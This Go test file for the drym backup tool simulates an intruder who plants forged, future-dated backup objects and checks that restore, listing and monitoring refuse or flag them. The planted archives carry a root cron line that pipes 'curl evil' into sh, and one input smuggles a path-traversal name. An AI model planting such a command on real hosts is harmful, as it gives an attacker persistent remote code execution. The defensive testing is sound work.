package main

// Only the host's own backups are trusted, and "latest" is the newest of
// them that is not dated in the future. The intruder here holds what anyone
// may: the host's public key and write access to the destination. It
// stores objects that decrypt and verify (a drym archive with a manifest,
// compressed by zstd and encrypted by gpg to the host key), under names
// dated in the future, beside sidecars that match them.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/drym-backup/drym/internal/archive"
	"github.com/drym-backup/drym/internal/backup"
	"github.com/drym-backup/drym/internal/crypt"
	"github.com/drym-backup/drym/internal/plugin/plugintest"
	"github.com/drym-backup/drym/internal/statement"
	"github.com/drym-backup/drym/internal/testutil"
)

// intruder has the host's public key and a key of its own, in a gpg home
// of its own, and nothing else of the host's.
type intruder struct {
	t            *testing.T
	home         string
	hostFpr, fpr string
}

func newIntruder(t *testing.T, hostPub string) *intruder {
	t.Helper()
	testutil.Need(t, "gpg")
	testutil.Need(t, "zstd")
	home, err := os.MkdirTemp("", "intruder-gpg")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		exec.Command("gpgconf", "--homedir", home, "--kill", "all").Run()
		os.RemoveAll(home)
	})
	in := &intruder{t: t, home: home}
	keys, err := crypt.ReadKeyFile(hostPub)
	if err != nil {
		t.Fatal(err)
	}
	in.hostFpr = crypt.Fingerprint(keys[0])
	in.gpg(nil, "--import", hostPub)
	in.gpg(nil, "--passphrase", "", "--quick-gen-key", "intruder <intruder@example.org>", "ed25519", "sign", "never")
	out := in.gpg(nil, "--with-colons", "--list-secret-keys")
	m := regexp.MustCompile(`(?m)^fpr:::::::::([0-9A-F]{40}):`).FindSubmatch(out)
	if m == nil {
		t.Fatalf("no intruder key:\n%s", out)
	}
	in.fpr = string(m[1])
	return in
}

func (in *intruder) gpg(stdin []byte, args ...string) []byte {
	in.t.Helper()
	cmd := exec.Command("gpg", append([]string{"--homedir", in.home, "--batch", "--quiet", "--trust-model", "always"}, args...)...)
	cmd.Stdin = bytes.NewReader(stdin)
	var errb bytes.Buffer
	cmd.Stderr = &errb
	out, err := cmd.Output()
	if err != nil {
		in.t.Fatalf("gpg %v: %v\n%s", args, err, errb.String())
	}
	return out
}

// object makes a backup-shaped object of files (name → content) under a
// directory src: drym's own tar + manifest, `zstd`, then `gpg -e` to the
// host key. It decrypts with the host key and verifies against its
// manifest.
func (in *intruder) object(src string, files map[string]string) []byte {
	in.t.Helper()
	for n, c := range files {
		p := filepath.Join(src, n)
		must(in.t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(in.t, os.WriteFile(p, []byte(c), 0o644))
	}
	var tarball bytes.Buffer
	if _, err := archive.Write(context.Background(), &tarball, archive.Options{Host: "h1", Sources: []string{src}, Now: time.Now()}); err != nil {
		in.t.Fatal(err)
	}
	z := exec.Command("zstd", "-q", "-c")
	z.Stdin = &tarball
	compressed, err := z.Output()
	if err != nil {
		in.t.Fatal(err)
	}
	return in.gpg(compressed, "--encrypt", "--recipient", in.hostFpr)
}

// The ways an intruder dresses a planted object.
const (
	legacySidecar = "a one-line sidecar, no signature"
	noSignature   = "a statement, no signature"
	otherKey      = "a statement signed by another key"
	replayed      = "the host's signed statement of another backup"
)

// plant stores data under a new name dated at, dressed as kind, through
// put; genuine names a real backup (for replayed).
func (in *intruder) plant(put func(name string, data []byte), at time.Time, data []byte, kind, genuine string, read func(name string) []byte) string {
	in.t.Helper()
	name, err := backup.NewName(at)
	if err != nil {
		in.t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	hexsum := hex.EncodeToString(sum[:])
	put(name, data)
	st := statement.Statement{Host: "h1", Object: name, Size: int64(len(data)), SHA256: hexsum}.Marshal()
	switch kind {
	case legacySidecar:
		put(name+".sha256", []byte(hexsum+"  "+name+"\n"))
	case noSignature:
		put(name+".sha256", st)
	case otherKey:
		put(name+".sha256", st)
		put(name+".sig", in.gpg(st, "--armor", "--detach-sign", "--local-user", in.fpr))
	case replayed:
		put(name+".sha256", read(genuine+".sha256"))
		put(name+".sig", read(genuine+".sig"))
	default:
		in.t.Fatalf("plant: kind %q", kind)
	}
	return name
}

// trJSON is test-restore.json read on its own terms, so that this file
// builds against any version of the status package.
type trJSON struct {
	State         string   `json:"state"`
	Error         string   `json:"error"`
	Backup        string   `json:"backup"`
	Fingerprint   string   `json:"key_fingerprint"`
	KeyIDs        []string `json:"key_ids"`
	SignedBy      string   `json:"signed_by"`
	Unsigned      bool     `json:"unsigned"`
	FutureCount   int      `json:"future_count"`
	FutureObjects []string `json:"future_objects"`
	Started       string   `json:"started"`
}

func (r *kit) trJSON() (trJSON, []byte) {
	r.t.Helper()
	data, err := os.ReadFile(filepath.Join(r.state, "test-restore.json"))
	if err != nil {
		r.t.Fatal(err)
	}
	var tr trJSON
	if err := json.Unmarshal(data, &tr); err != nil {
		r.t.Fatal(err)
	}
	return tr, data
}

type backupJSON struct {
	Object    string   `json:"object"`
	KeyIDs    []string `json:"key_ids"`
	Signature string   `json:"signature"`
}

func (r *kit) backupJSON() backupJSON {
	r.t.Helper()
	data, err := os.ReadFile(filepath.Join(r.state, "backup.json"))
	if err != nil {
		r.t.Fatal(err)
	}
	var b backupJSON
	if err := json.Unmarshal(data, &b); err != nil {
		r.t.Fatal(err)
	}
	return b
}

func (r *kit) pubKey() string { return strings.TrimSuffix(r.key, ".asc") + ".pub.asc" }

// dirPut and dirRead store and read objects of a dir destination.
func (r *kit) dirPut(name string, data []byte) {
	r.t.Helper()
	must(r.t, os.MkdirAll(filepath.Join(r.dest, "h1"), 0o755))
	must(r.t, os.WriteFile(filepath.Join(r.dest, "h1", name), data, 0o644))
}

func (r *kit) dirRead(name string) []byte {
	r.t.Helper()
	b, err := os.ReadFile(filepath.Join(r.dest, "h1", name))
	if err != nil {
		r.t.Fatal(err)
	}
	return b
}

// s3Put and s3Read do the same in a bucket, with the root keys (the
// intruder may write).
func s3Put(t *testing.T, srv *testutil.S3Server, prefix string) func(string, []byte) {
	return func(name string, data []byte) {
		t.Helper()
		key := prefix + name
		if _, err := srv.Root().PutObject(context.Background(), &s3.PutObjectInput{Bucket: &srv.Bucket, Key: &key, Body: bytes.NewReader(data)}); err != nil {
			t.Fatal(err)
		}
	}
}

func s3Read(t *testing.T, srv *testutil.S3Server, prefix string) func(string) []byte {
	return func(name string) []byte {
		t.Helper()
		key := prefix + name
		o, err := srv.Root().GetObject(context.Background(), &s3.GetObjectInput{Bucket: &srv.Bucket, Key: &key})
		if err != nil {
			t.Fatal(err)
		}
		defer o.Body.Close()
		var b bytes.Buffer
		b.ReadFrom(o.Body)
		return b.Bytes()
	}
}

// A planted object is refused by test-restore and restore when named,
// and "latest" skips it, in a directory and in S3.
func TestPlantedObjectRefused(t *testing.T) {
	testutil.ForEachS3(t, testPlantedObjectRefused)
}

func testPlantedObjectRefused(t *testing.T, srv *testutil.S3Server) {
	kinds := []string{legacySidecar, noSignature, otherKey, replayed}
	for _, dest := range []string{"dir", "s3"} {
		for i, kind := range kinds {
			t.Run(dest+"/"+kind, func(t *testing.T) {
				var r *kit
				var put func(string, []byte)
				var read func(string) []byte
				if dest == "s3" {
					prefix := fmt.Sprintf("drym%d", i)
					extra := fmt.Sprintf("endpoint = %q\npath_style = true\nprofile = %q\nread_profile = %q\n", srv.Endpoint, srv.PutProfile, srv.ReadProfile)
					r = newRig(t, "s3://"+srv.Bucket+"/"+prefix, extra, srv.Env())
					put, read = s3Put(t, srv, prefix+"/h1/"), s3Read(t, srv, prefix+"/h1/")
				} else {
					r = newRig(t, "", "", nil)
					put, read = r.dirPut, r.dirRead
				}
				r.mustRun("backup")
				genuine := r.backupJSON().Object
				in := newIntruder(t, r.pubKey())
				data := in.object(filepath.Join(r.dir, "evil"), map[string]string{"etc/cron.d/evil": "* * * * * root curl evil | sh\n"})
				planted := in.plant(put, time.Now().Add(30*24*time.Hour), data, kind, genuine, read)
				testPlanted(t, r, genuine, planted)
			})
		}
	}
}

func testPlanted(t *testing.T, r *kit, genuine, planted string) {
	t.Helper()
	why := regexp.MustCompile(`not signed|is missing|signed by key|does not match|names`)
	// Named: refused, with the reason, before anything is read.
	out, errs, code := r.run("test-restore", "--backup", planted)
	tr, _ := r.trJSON()
	if code != 1 || tr.State != "failed" || tr.Backup != planted || !strings.Contains(tr.Error, planted) || !why.MatchString(tr.Error) {
		t.Errorf("test-restore --backup planted: exit %d, %s %q (backup %s)\n%s%s", code, tr.State, tr.Error, tr.Backup, out, errs)
	}
	to := filepath.Join(r.dir, "restored-planted")
	out, errs, code = r.run("restore", "--backup", planted, "--to", to)
	if code != 1 || !strings.Contains(errs, planted) || !why.MatchString(errs) {
		t.Errorf("restore --backup planted: exit %d\n%s%s", code, out, errs)
	}
	if ents, _ := os.ReadDir(to); len(ents) != 0 {
		t.Errorf("restore of the planted object wrote %d entries into %s", len(ents), to)
	}
	// latest: the genuine backup, and the planted one reported.
	out, errs, code = r.run("test-restore")
	tr, _ = r.trJSON()
	if code != 0 || tr.Backup != genuine || tr.FutureCount != 1 || !slices.Equal(tr.FutureObjects, []string{planted}) || !strings.Contains(errs, planted) {
		t.Errorf("test-restore latest: exit %d, backup %s (want %s), future %d %v\n%s%s", code, tr.Backup, genuine, tr.FutureCount, tr.FutureObjects, out, errs)
	}
	to = filepath.Join(r.dir, "restored-latest")
	if out, errs, code := r.run("restore", "--to", to); code != 0 || !strings.Contains(out, genuine) {
		t.Errorf("restore latest: exit %d\n%s%s", code, out, errs)
	}
	if _, err := os.Stat(filepath.Join(to, strings.TrimPrefix(r.dir, "/"), "evil")); err == nil {
		t.Error("restore latest brought back the planted files")
	}
	diffTrees(t, treeSnapshot(t, filepath.Join(to, strings.TrimPrefix(r.src, "/")), true), treeSnapshot(t, r.src, true))
	// list says which is which.
	out, errs, code = r.run("list")
	lines := map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		for _, n := range []string{genuine, planted} {
			if strings.Contains(l, "  "+n+"  ") {
				lines[n] = l
			}
		}
	}
	if code != 0 || !strings.Contains(lines[genuine], "signed latest") || !strings.Contains(lines[planted], "FUTURE") ||
		!regexp.MustCompile(`UNSIGNED|UNTRUSTED`).MatchString(lines[planted]) {
		t.Errorf("list: exit %d\n%s%s", code, out, errs)
	}
}

// A backup signed by the host key but dated in the future (the clock ran
// ahead when it was made) is never latest either: it would stay "latest"
// for as long as the clock was ahead, and every restore of latest would
// bring back old data.
func TestFutureBackupIsNotLatest(t *testing.T) {
	r := newRig(t, "", "", nil)
	r.mustRun("backup")
	genuine := r.backupJSON().Object
	// The host's own key, the host's own kind of object, a name a day
	// ahead.
	in := newIntruder(t, r.pubKey())
	data := in.object(filepath.Join(r.dir, "old"), map[string]string{"etc/hosts": "stale\n"})
	name, err := backup.NewName(time.Now().Add(24 * time.Hour))
	must(t, err)
	r.dirPut(name, data)
	sum := sha256.Sum256(data)
	st := statement.Statement{Host: "h1", Object: name, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}.Marshal()
	keys, err := crypt.ReadKeyFile(r.key)
	must(t, err)
	sig, err := statement.Sign(st, keys[0])
	must(t, err)
	r.dirPut(name+".sha256", st)
	r.dirPut(name+".sig", sig)

	out, errs, code := r.run("test-restore")
	tr, _ := r.trJSON()
	if code != 0 || tr.Backup != genuine || tr.FutureCount != 1 || !strings.Contains(errs, "in the future") {
		t.Fatalf("test-restore: exit %d, backup %s (want %s), %d future\n%s%s", code, tr.Backup, genuine, tr.FutureCount, out, errs)
	}
	// By name it is the host's and it is tested, with the warning.
	out, errs, code = r.run("test-restore", "--backup", name)
	if tr, _ := r.trJSON(); code != 0 || tr.Backup != name || tr.SignedBy != crypt.Fingerprint(keys[0]) {
		t.Fatalf("test-restore --backup future: exit %d %+v\n%s%s", code, tr, out, errs)
	}
	// restore (default latest) brings back the genuine backup: the
	// future one's signature is good, so only its date can keep its
	// stale files out.
	to := filepath.Join(r.dir, "restored-latest")
	out, errs, code = r.run("restore", "--to", to)
	if code != 0 || !strings.Contains(out, genuine) || strings.Contains(out, name) {
		t.Fatalf("restore latest: exit %d, want %s restored\n%s%s", code, genuine, out, errs)
	}
	if _, err := os.Stat(filepath.Join(to, strings.TrimPrefix(r.dir, "/"), "old", "etc", "hosts")); err == nil {
		t.Error("restore latest brought back the future-dated backup's files")
	}
	diffTrees(t, treeSnapshot(t, filepath.Join(to, strings.TrimPrefix(r.src, "/")), true), treeSnapshot(t, r.src, true))
	// list marks it FUTURE, signed (it is the host's), and not latest;
	// latest stays on the genuine one.
	out, errs, code = r.run("list")
	lines := map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		for _, n := range []string{genuine, name} {
			if strings.Contains(l, "  "+n+"  ") {
				lines[n] = l
			}
		}
	}
	if code != 0 || !strings.HasSuffix(lines[genuine], "  signed latest") || !strings.HasSuffix(lines[name], "  signed FUTURE") ||
		!strings.Contains(out, "FUTURE: 1 dated more than") {
		t.Errorf("list: exit %d, want %s signed FUTURE and %s signed latest\n%s%s", code, name, genuine, out, errs)
	}
}

// A backup made before drym signed them (a one-line sidecar, no .sig) is
// named as unsigned and read only with --allow-unsigned.
func TestUnsignedBackupNeedsFlag(t *testing.T) {
	r := newRig(t, "", "", nil)
	r.mustRun("backup")
	legacy := r.backupJSON().Object
	sum := r.backupStatus().SHA256
	os.Remove(filepath.Join(r.dest, "h1", legacy+".sig"))
	os.Remove(filepath.Join(r.dest, "h1", legacy+".sha256"))
	r.dirPut(legacy+".sha256", []byte(sum+"  "+legacy+"\n"))

	out, errs, code := r.run("test-restore", "--backup", legacy)
	tr, _ := r.trJSON()
	if code != 1 || !strings.Contains(tr.Error, "not signed") || !strings.Contains(tr.Error, "--allow-unsigned") {
		t.Fatalf("test-restore of an unsigned backup: exit %d %q\n%s%s", code, tr.Error, out, errs)
	}
	out, errs, code = r.run("test-restore", "--allow-unsigned", "--backup", legacy)
	tr, _ = r.trJSON()
	if code != 0 || !tr.Unsigned || tr.SignedBy != "" || !strings.Contains(out, "UNSIGNED") || !strings.Contains(errs, "UNSIGNED") {
		t.Fatalf("test-restore --allow-unsigned: exit %d %+v\n%s%s", code, tr, out, errs)
	}
	to := filepath.Join(r.dir, "r1")
	if _, errs, code := r.run("restore", "--backup", legacy, "--to", to); code != 1 || !strings.Contains(errs, "--allow-unsigned") {
		t.Fatalf("restore of an unsigned backup: exit %d\n%s", code, errs)
	}
	if _, errs, code := r.run("restore", "--allow-unsigned", "--backup", legacy, "--to", to); code != 0 {
		t.Fatalf("restore --allow-unsigned: exit %d\n%s", code, errs)
	}
	diffTrees(t, treeSnapshot(t, filepath.Join(to, strings.TrimPrefix(r.src, "/")), true), treeSnapshot(t, r.src, true))
	// latest is never unsigned: with no signed backup there is none.
	if _, errs, code := r.run("test-restore"); code != 1 || !strings.Contains(errs, "--backup NAME --allow-unsigned") {
		t.Fatalf("test-restore latest with only an unsigned backup: exit %d\n%s", code, errs)
	}
}

// A mistyped --backup is a usage error: exit 2, and test-restore.json is
// left as it was (it still describes the last real test).
func TestBackupNameUsageErrors(t *testing.T) {
	r := newRig(t, "", "", nil)
	r.mustRun("backup")
	r.mustRun("test-restore")
	_, before := r.trJSON()
	absent, err := backup.NewName(time.Now())
	must(t, err)
	for _, name := range []string{"2026-typo", "h1/../../etc/passwd", absent} {
		for _, cmd := range [][]string{{"test-restore", "--backup", name}, {"restore", "--backup", name, "--to", filepath.Join(r.dir, "x")}} {
			out, errs, code := r.run(cmd...)
			if code != 2 || !strings.Contains(errs, "backup_runner list") {
				t.Errorf("%v: exit %d, want 2\n%s%s", cmd, code, out, errs)
			}
		}
		if _, after := r.trJSON(); !bytes.Equal(after, before) {
			t.Errorf("--backup %s changed test-restore.json:\n%s", name, after)
		}
	}
	for _, cmd := range [][]string{{"test-restore", "--allow-unsigned"}, {"restore", "--allow-unsigned", "--to", filepath.Join(r.dir, "x")}} {
		if out, errs, code := r.run(cmd...); code != 2 || !strings.Contains(errs, "needs --backup NAME") {
			t.Errorf("%v: exit %d, want 2\n%s%s", cmd, code, out, errs)
		}
	}
	if _, after := r.trJSON(); !bytes.Equal(after, before) {
		t.Errorf("--allow-unsigned without a name changed test-restore.json:\n%s", after)
	}
	if _, err := os.Stat(filepath.Join(r.dir, "x")); err == nil {
		t.Error("restore with a bad --backup created its target")
	}
}

// test-restore.json says who signed the backup, which keys it is
// encrypted to (read from the object) and which key decrypted it: after a
// key rotation, the retired key for an old backup. Keys retired under the
// older file name (last 16 hex digits) are still found.
func TestTestRestoreRecordsKeys(t *testing.T) {
	r := newRig(t, "", "", nil)
	r.mustRun("backup")
	old := r.backupJSON()
	keys, err := crypt.ReadKeyFile(r.key)
	must(t, err)
	oldFpr := crypt.Fingerprint(keys[0])
	gpgIDs := packetKeyIDs(t, filepath.Join(r.dest, "h1", old.Object))
	if len(gpgIDs) != 1 || !slices.Equal(old.KeyIDs, gpgIDs) || old.Signature != old.Object+".sig" {
		t.Errorf("backup.json key_ids %v signature %q; gpg lists %v", old.KeyIDs, old.Signature, gpgIDs)
	}
	r.mustRun("test-restore")
	tr, _ := r.trJSON()
	if tr.SignedBy != oldFpr || tr.Fingerprint != oldFpr || !slices.Equal(tr.KeyIDs, gpgIDs) || tr.Unsigned {
		t.Errorf("test-restore.json: %+v (key %s, ids %v)", tr, oldFpr, gpgIDs)
	}

	r.mustRun("init", "--rotate-key")
	// Rename the retired files the way drym used to name them.
	retired, _ := filepath.Glob(r.key + ".*.retired-*")
	if len(retired) != 2 {
		t.Fatalf("retired: %v", retired)
	}
	for _, p := range retired {
		must(t, os.Rename(p, strings.Replace(p, "."+oldFpr[:16]+".", "."+oldFpr[24:]+".", 1)))
	}
	time.Sleep(1100 * time.Millisecond) // names have second resolution
	r.mustRun("backup")
	keys, err = crypt.ReadKeyFile(r.key)
	must(t, err)
	newFpr := crypt.Fingerprint(keys[0])

	r.mustRun("test-restore")
	if tr, _ := r.trJSON(); tr.SignedBy != newFpr || tr.Fingerprint != newFpr {
		t.Errorf("latest: signed by %s, decrypted by %s; want the new key %s", tr.SignedBy, tr.Fingerprint, newFpr)
	}
	r.mustRun("test-restore", "--backup", old.Object)
	if tr, _ := r.trJSON(); tr.SignedBy != oldFpr || tr.Fingerprint != oldFpr || !slices.Equal(tr.KeyIDs, gpgIDs) {
		t.Errorf("old backup: signed by %s, decrypted by %s, ids %v; want the retired key %s", tr.SignedBy, tr.Fingerprint, tr.KeyIDs, oldFpr)
	}
}

// init fsyncs the directory of the key files after creating them, so a
// crash right after cannot lose a key whose escrow was already shipped.
func TestKeyFilesSynced(t *testing.T) {
	strace := testutil.Need(t, "strace")
	bin := testutil.Binary(t, "backup_runner")
	dir := t.TempDir()
	keyDir := filepath.Join(dir, "keys")
	trace := filepath.Join(dir, "trace")
	cmd := exec.Command(strace, "-f", "-qq", "-e", "trace=openat,fsync", "-o", trace,
		bin, "--config", filepath.Join(dir, "drym.toml"), "init", "--source", dir, "--dest", "dir://"+filepath.Join(dir, "dest"),
		"--state-dir", filepath.Join(dir, "state"), "--key-file", filepath.Join(keyDir, "host-key.asc"), "--host", "h1")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("strace backup_runner init: %v\n%s", err, out)
	}
	data, err := os.ReadFile(trace)
	must(t, err)
	// After the public key file is created, the key directory is opened
	// and that descriptor fsynced.
	lines := strings.Split(string(data), "\n")
	created := slices.IndexFunc(lines, func(l string) bool {
		return strings.Contains(l, `host-key.pub.asc", O_WRONLY|O_CREAT|O_EXCL`)
	})
	if created < 0 {
		t.Fatalf("no creation of the public key in the trace:\n%s", data)
	}
	open := regexp.MustCompile(`^(\d+) +openat\(AT_FDCWD, "` + regexp.QuoteMeta(keyDir) + `", [^)]*\) = (\d+)$`)
	synced := false
	fds := map[string]bool{}
	for _, l := range lines[created:] {
		if m := open.FindStringSubmatch(l); m != nil {
			fds[m[2]] = true
		}
		if m := regexp.MustCompile(`fsync\((\d+)\) += 0`).FindStringSubmatch(l); m != nil && fds[m[1]] {
			synced = true
		}
	}
	if !synced {
		t.Fatalf("the key directory %s is not fsynced after the key files are created:\n%s", keyDir, strings.Join(lines[created:], "\n"))
	}
}

// packetKeyIDs lists the key IDs of an OpenPGP message's session key
// packets with gpg, which needs no key for that.
func packetKeyIDs(t *testing.T, object string) []string {
	t.Helper()
	gpg := testutil.Need(t, "gpg")
	cmd := exec.Command(gpg, "--batch", "--list-packets", "--list-only", object)
	cmd.Env = append(os.Environ(), "GNUPGHOME="+t.TempDir())
	out, _ := cmd.CombinedOutput() // exits non-zero: no secret key
	var ids []string
	for _, m := range regexp.MustCompile(`:pubkey enc packet: .*keyid ([0-9A-F]{16})`).FindAllStringSubmatch(string(out), -1) {
		ids = append(ids, m[1])
	}
	return ids
}

// verifyStock checks a backup object in dir the way RESTORE.md says, with
// nothing but the host's public key: gpg --verify NAME.sig NAME.sha256 must
// report a good signature by that key, then sha256sum -c NAME.sha256.
func verifyStock(t *testing.T, dir, name, pubKey string) {
	t.Helper()
	gpg := testutil.Need(t, "gpg")
	home := t.TempDir()
	env := append(os.Environ(), "GNUPGHOME="+home)
	imp := exec.Command(gpg, "--batch", "--quiet", "--import", pubKey)
	imp.Env = env
	if out, err := imp.CombinedOutput(); err != nil {
		t.Fatalf("gpg --import: %v\n%s", err, out)
	}
	keys, err := crypt.ReadKeyFile(pubKey)
	must(t, err)
	v := exec.Command(gpg, "--batch", "--status-fd", "1", "--verify", name+".sig", name+".sha256")
	v.Dir, v.Env = dir, env
	out, err := v.CombinedOutput()
	if err != nil || !regexp.MustCompile(`(?m)^\[GNUPG:\] VALIDSIG .* `+crypt.Fingerprint(keys[0])+`$`).Match(out) {
		t.Fatalf("gpg --verify: %v\n%s", err, out)
	}
	c := exec.Command("sha256sum", "--strict", "-c", name+".sha256")
	c.Dir = dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("sha256sum -c: %v\n%s", err, out)
	}
}

// TestChecksOnPlantedBesideFreshBackup: a planted object, dated in the
// future, beside a fresh genuine backup. The real checks, run as Nagios
// would, never say OK on it: check_test_restore, after test-restore tested
// the genuine backup and reported the planted one, is WARNING naming it,
// and CRITICAL once test-restore was told to test it; check_backup_age
// --host, judging from the store alone, is WARNING naming it.
// check_backup_age --remote is asked only about the object backup.json
// records (docs/CHECKS.md, "What --remote proves"), never lists the store,
// so it may be OK, but only on the genuine backup.
func TestChecksOnPlantedBesideFreshBackup(t *testing.T) {
	for _, kind := range []string{legacySidecar, noSignature, otherKey, replayed} {
		t.Run(kind, func(t *testing.T) {
			r := newRig(t, "", "", nil)
			r.mustRun("backup")
			genuine := r.backupJSON().Object
			in := newIntruder(t, r.pubKey())
			data := in.object(filepath.Join(r.dir, "evil"), map[string]string{"etc/cron.d/evil": "* * * * * root curl evil | sh\n"})
			planted := in.plant(r.dirPut, time.Now().Add(30*24*time.Hour), data, kind, genuine, r.dirRead)

			// Store-side view: pinned host key, the dir destination.
			keys := filepath.Join(r.dir, "pinned")
			must(t, os.MkdirAll(keys, 0o755))
			pub, err := os.ReadFile(r.pubKey())
			must(t, err)
			must(t, os.WriteFile(filepath.Join(keys, "h1.pub.asc"), pub, 0o644))
			mon := filepath.Join(r.dir, "monitoring.toml")
			must(t, os.WriteFile(mon, fmt.Appendf(nil, "keys = %q\n[destination]\nurl = %q\n", keys, "dir://"+r.dest), 0o644))

			if out, errs, code := r.run("test-restore"); code != 0 || !strings.Contains(errs, planted) {
				t.Fatalf("test-restore: exit %d\n%s%s", code, out, errs)
			}
			tests := []struct {
				name  string
				check string
				argv  []string
				code  int // the exit code (state) the check must give
				first string
			}{
				{"check_test_restore after test-restore of latest", "check_test_restore", []string{"--config", r.cfg},
					1, `^WARNING: 1 backup object\(s\) in .* dated more than 5m in the future \(first: (h1/)?` + regexp.QuoteMeta(planted) + `\)`},
				{"check_backup_age --host", "check_backup_age", []string{"--host", "h1", "--monitoring-config", mon},
					1, `^WARNING: 1 object\(s\) in .* named in the future .*\(first: ` + regexp.QuoteMeta(planted) + `\)`},
				{"check_backup_age --remote", "check_backup_age", []string{"--config", r.cfg, "--remote"},
					0, `^OK: .*in the destination: size, time, signed statement`},
			}
			for _, tt := range tests {
				res := plugintest.Run(t, tt.check, nil, tt.argv...)
				if res.Code != tt.code || !regexp.MustCompile(tt.first).MatchString(res.First()) {
					t.Errorf("%s: exit %d, want %d matching %q\n%s%s", tt.name, res.Code, tt.code, tt.first, res.Stdout, res.Stderr)
				}
				// An OK (only --remote) is about the genuine backup and
				// does not take the planted one for it.
				if res.Code == 0 && (!strings.Contains(res.Stdout, genuine) || strings.Contains(res.Stdout, planted)) {
					t.Errorf("%s: OK, but not about the genuine backup %s alone:\n%s", tt.name, genuine, res.Stdout)
				}
			}

			// test-restore told to test the planted object refuses it, and
			// check_test_restore turns CRITICAL: the last test failed.
			if _, errs, code := r.run("test-restore", "--backup", planted); code != 1 {
				t.Fatalf("test-restore --backup planted: exit %d\n%s", code, errs)
			}
			res := plugintest.Run(t, "check_test_restore", nil, "--config", r.cfg)
			if res.Code != 2 || !strings.HasPrefix(res.First(), "CRITICAL") || !strings.Contains(res.Stdout, planted) {
				t.Errorf("check_test_restore after test-restore --backup planted: exit %d\n%s%s", res.Code, res.Stdout, res.Stderr)
			}
		})
	}
}
